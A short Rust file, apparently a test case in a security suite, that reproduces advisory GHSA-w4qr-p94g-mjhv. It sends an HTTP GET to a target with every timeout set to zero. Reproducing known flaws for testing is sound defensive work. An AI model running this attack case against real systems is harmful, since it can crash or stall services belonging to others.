//! No time at all for anything (GHSA-w4qr-p94g-mjhv).

use attack_kit::Tried;
use attack_kit::http::Attempt;

pub fn attack(target: &str) -> Tried {
    let attempt = Attempt::get(target);
    attempt.options.set_connect_timeout(Some(0)).expect("it can be set");
    attempt.options.set_first_byte_timeout(Some(0)).expect("it can be set");
    attempt.options.set_between_bytes_timeout(Some(0)).expect("it can be set");
    attempt.tried()
}
